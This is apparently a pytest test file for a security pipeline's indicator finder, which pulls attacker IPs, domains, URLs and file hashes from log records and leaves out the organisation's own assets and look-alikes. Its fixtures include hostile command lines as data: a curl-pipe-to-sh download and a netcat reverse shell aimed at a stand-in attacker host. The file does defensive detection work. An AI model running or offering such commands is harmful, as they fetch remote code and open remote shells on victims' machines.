"""The finder takes what is another's out of any document, and nothing of ours, by field name and form."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.mappings.finder import find

MD5, SHA1, SHA256 = "0a" * 16, "0b" * 20, "0c" * 32


def found(document: Any) -> list[str]:
    """Return the values that a document names, sources first."""
    both = find(document)
    return [indicator["value"] for indicator in (*both.sources, *both.targets)]


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        # Addresses by their form alone, whatever the field; with port, in brackets, mapped.
        ({"sourceIPAddress": "203.0.113.7"}, ["203.0.113.7"]),
        ({"ClientIP": "203.0.113.7:50123"}, ["203.0.113.7"]),
        ({"ClientIP": "[2001:db8::5]:443"}, ["2001:db8::5"]),
        ({"x": "::ffff:203.0.113.7"}, ["203.0.113.7"]),
        ({"x-forwarded-for": "203.0.113.7, 198.51.100.2"}, ["203.0.113.7", "198.51.100.2"]),
        ({"all_recent_ips": ["203.0.113.7", "198.51.100.2"]}, ["203.0.113.7", "198.51.100.2"]),
        # Names with dots are the fields that they stand for.
        ({"id.orig_h": "203.0.113.7", "id.resp_h": "198.51.100.2"}, ["203.0.113.7", "198.51.100.2"]),
        # Hosts that were looked up or contacted, in the spellings of many products.
        ({"query_name": "a.evil.example."}, ["a.evil.example"]),
        ({"query": "evil-bucket.s3.us-west-2.amazonaws.com"}, ["evil-bucket.s3.us-west-2.amazonaws.com"]),
        ({"dns": {"question": {"name": "a.evil.example"}}}, ["a.evil.example"]),
        ({"DestinationHostname": "a.evil.example"}, ["a.evil.example"]),
        ({"indicator": {"domain": "a[.]evil[.]example"}}, ["a.evil.example"]),
        # URLs; one without a scheme, one of a command too.
        ({"url": "www.evil.example/x?y=1"}, ["www.evil.example"]),
        ({"url": "hxxps://evil[.]example/x,y?z=1"}, ["https://evil.example/x,y?z=1"]),
        ({"CommandLine": 'curl "http://evil.example/a.sh" | sh'}, ["http://evil.example/a.sh"]),
        ({"cmdline": "nc -e /bin/sh 203.0.113.7 4444"}, ["203.0.113.7"]),
        # Hashes by the field's name, by the pair's, and by the label before them.
        ({"file": {"hash": {"md5": MD5, "sha1": SHA1, "sha256": SHA256.upper()}}}, [MD5, SHA1, SHA256]),
        ({"hashes": [{"algorithm": "SHA-256", "value": SHA256}]}, [SHA256]),
        ({"fileHash": {"hashType": "sha1", "hashValue": SHA1}}, [SHA1]),
        ({"Hashes": f"MD5={MD5},SHA256={SHA256},IMPHASH={MD5[::-1]}"}, [MD5, SHA256]),
        ({"description": f"The file with SHA-256 {SHA256} ran."}, [SHA256]),
        # Behind the port SonicWall writes the interface and the name; a name with its port; what was asked for.
        ({"src": "203.0.113.7:4711:X1:a.corp.example"}, ["203.0.113.7"]),
        ({"dsthost": "a.evil.example:443"}, ["a.evil.example"]),
        ({"url": "a.evil.example"}, ["a.evil.example"]),
        ({"first_line": "GET http://evil.example/x HTTP/1.1"}, ["http://evil.example/x"]),
        # A field of CEF counts under the name that its label gives it: a version is no address.
        ({"cs3Label": "Engine Version", "Engine Version": "9.8.1.2", "cs3": "9.8.1.2"}, []),
        ({"cs3Label": "Peer", "Peer": "203.0.113.7", "cs3": "203.0.113.7"}, ["203.0.113.7"]),
        # An indicator of whatever type.
        ({"ioc_value": SHA256}, [SHA256]),
        (
            {"iocs": ["evil.example", "http://evil.example/x", "203.0.113.7"]},
            ["203.0.113.7", "evil.example", "http://evil.example/x"],
        ),
        # The host of an address from outside.
        ({"source": {"ip": "203.0.113.7", "domain": "a.evil.example"}}, ["203.0.113.7", "a.evil.example"]),
        # Prose and JSON inside of a text.
        ({"message": "Failed password for root from 203.0.113.7 port 22"}, ["203.0.113.7"]),
        ({"message": "Built outbound:203.0.113.7/10000 to 10.0.0.7/443"}, ["203.0.113.7"]),
        ({"message": "query: a.evil.example IN A + (10.0.0.1)"}, ["a.evil.example"]),
        ({"message": "query[AAAA] a.evil.example from 10.0.0.1"}, ["a.evil.example"]),
        ({"message": "info: 10.0.0.1 a.evil.example. A IN"}, ["a.evil.example"]),
        (
            {"message": "CONNECT a.evil.example:443 - HIER_DIRECT/203.0.113.7 -"},
            ["203.0.113.7", "a.evil.example"],
        ),
        ({"message": '"Blocked","1 (A)","NOERROR","a.evil.example.","x"'}, ["a.evil.example"]),
        ({"message": "query: 7.113.0.203.in-addr.arpa IN PTR +"}, []),
        (
            {"message": "203.0.113.7/37769->198.51.100.2/25 mia/203.0.113.8:5932"},
            ["203.0.113.7", "198.51.100.2", "203.0.113.8"],
        ),
        ({"message": "Chrome/120.0.0.0 in 203.0.113.0/24"}, []),
        ({"message": f"MD5: {MD5} SHA-1: {SHA1}"}, [MD5, SHA1]),
        # A URL in prose that was asked for, or made harmless; another may be advice.
        ({"message": "GET http://evil.example/x - see https://good.example/help"}, ["http://evil.example/x"]),
        ({"description": "Contacted hxxp://evil[.]example/x"}, ["http://evil.example/x"]),
        ({"details": json.dumps({"url": "http://evil.example/x"})}, ["http://evil.example/x"]),
        ({"Details": "Cmdline: certutil http://evil.example/a ¦ Proc: x"}, ["http://evil.example/a"]),
    ],
)
def test_what_is_anothers_is_found(document: dict[str, Any], expected: list[str]) -> None:
    assert found(document) == expected


@pytest.mark.parametrize(
    "document",
    [
        # Versions and user agents.
        {"userAgent": "203.0.113.7", "client": {"platform_version": "108.0.0.0"}},
        {"user_agent": {"original": "Mozilla/5.0 Chrome/99.0.4844.51"}},
        {"message": "Syntax (OID):\t203.0.113.7"},
        {"message": "driver version 203.0.113.7 was installed, v203.0.113.8 and Agent/203.0.113.9"},
        {"additionalDetails": [{"key": "User-Agent", "value": "203.0.113.7"}]},
        # Machines of ours, by the field around or by the name itself; and where they stand a second time.
        {"device": {"external_ip": "198.51.100.9"}, "related": {"ip": ["198.51.100.9"]}},
        {"agent": {"ip": "198.51.100.9"}, "host": {"ip": ["198.51.100.9"]}, "aip": "198.51.100.9"},
        {"instanceDetails": {"networkInterfaces": [{"publicIp": "198.51.100.9"}]}},
        # Addresses that reach no machine outside.
        {"src": "127.0.0.1", "dst": "0.0.0.0", "a": "169.254.1.1", "b": "224.0.0.1", "c": "10.0.0.1", "d": "fe80::1"},
        {"cidrIp": "203.0.113.0/24"},
        # Services, programs, packages, files and accounts that look like host names.
        {"eventSource": "signin.amazonaws.com", "sourceIPAddress": "lambda.amazonaws.com"},
        {"domainDetails": {"domain": "cloudformation.amazonaws.com"}},
        {"query_name": "dynamodb.us-west-2.amazonaws.com.", "rrname": "sts.amazonaws.com"},
        {"serviceName": "compute.googleapis.com", "methodName": "v1.compute.instances.insert"},
        {"action": "team.create", "name": "m5.xlarge", "FileName": "pwsh.exe", "package": "com.example.app"},
        {"query": "SELECT name FROM users.table", "QUERY_TEXT": "DROP TABLE a.b"},
        # Domains of people and companies.
        {"user": {"name": "mia", "domain": "corp.example"}, "actor": {"domain": "corp.example"}},
        {"user_email": "mia@corp.example", "domain": "corp.example"},
        {"securityContext": {"domain": "isp.example"}},
        {"source": {"ip": ["10.0.0.1"], "domain": "ws-1.corp.example"}},
        {"x": {"hostname": "ws-1", "domain": "corp.example"}},
        {"hostname": "ws-1.corp.example", "domain": "corp.example"},
        # The domain that a contacted one is below.
        {"url": {"registered_domain": "evil.example"}},
        # Paths.
        {"url": "/a/b.example/x", "page_url": "index.php/x", "link_url": "a b.example/x"},
        # Links to consoles, APIs and advice.
        {"alertWebUrl": "https://security.evil.example/x", "html_url": "https://evil.example/a", "selfLink": "x"},
        {"falcon_host_link": "https://evil.example/x", "references": ["https://blog.evil.example/x"]},
        # A link to the page of the object itself, by its id, or of a rule.
        {"id": 2644, "url": "https://siem.maker.example/x/2644", "rule": {"url": "https://siem.maker.example/r"}},
        {"hostname": "null", "versions": "1.2.3.4, x"},
        {"url": "https://sub.zendesk.com/api/v2/x.json", "LoginTo": "https://console.aws.amazon.com/"},
        # Addresses that a firewall translated to, machines that were scanned.
        {"trans_src": "203.0.113.7", "natDst": "203.0.113.8", "ModuleLocalAddress": "203.0.113.9:1812"},
        {"assets": [{"asset": "203.0.113.7"}]},
        # Hexadecimal digits that are no file's hash.
        {"id": MD5, "event_id": SHA1, "ja3": {"hash": MD5}, "dtHash": SHA256, "commit_sha": SHA1, "aid": MD5},
        {"related": {"hash": [MD5]}},
        {"md5HashMessageBody": MD5, "imphash": MD5, "SHA1HashData": "0" * 40, "password_hash": MD5},
        # What a pipeline adds of its own.
        {"p_any_ip_addresses": ["203.0.113.7"], "p_enrichment": {"x": {"ip": "203.0.113.7"}}},
    ],
)  # fmt: skip
def test_what_is_ours_or_only_looks_like_an_indicator_is_not_found(document: dict[str, Any]) -> None:
    assert found(document) == []


def test_machines_of_ours_are_assets() -> None:
    document = {"host": {"name": "x", "hostname": "ws-1", "ip": "198.51.100.9"}, "src": "10.0.0.4"}
    assert find(document).assets == ("ws-1", "198.51.100.9", "10.0.0.4")


@pytest.mark.parametrize(
    ("document", "side"),
    [
        ({"src_ip": "203.0.113.7"}, "source"),
        ({"ip": "203.0.113.7"}, "source"),
        ({"destination": {"ip": "203.0.113.7"}}, "target"),
        ({"answers": [{"Rdata": "203.0.113.7"}]}, "target"),
        ({"remoteIpDetails": {"ipAddressV4": "203.0.113.7"}}, "source"),
    ],
)
def test_an_address_stands_on_the_side_that_its_fields_name(document: dict[str, Any], side: str) -> None:
    both = find(document)
    assert [item["value"] for item in getattr(both, f"{side}s")] == ["203.0.113.7"]


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text()
    | st.sampled_from(["203.0.113.7", "{", "[]", "a.b"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=20,
)


@given(JSON)
def test_any_document_can_be_looked_at(document: Any) -> None:
    both = find(document)
    assert all(item["value"] for item in (*both.sources, *both.targets))


@given(st.lists(st.ip_addresses(network="203.0.113.0/24").map(str), max_size=5, unique=True))
def test_every_address_of_a_field_is_found_once(addresses: list[str]) -> None:
    assert found({"a": addresses, "b": {"c": addresses}}) == addresses


def test_a_document_that_is_nested_too_deep_is_looked_at_as_far_as_fields_go() -> None:
    document: dict[str, Any] = {"ip": "203.0.113.7"}
    for _ in range(200):
        document = {"x": [document]}
    assert found(document) == []
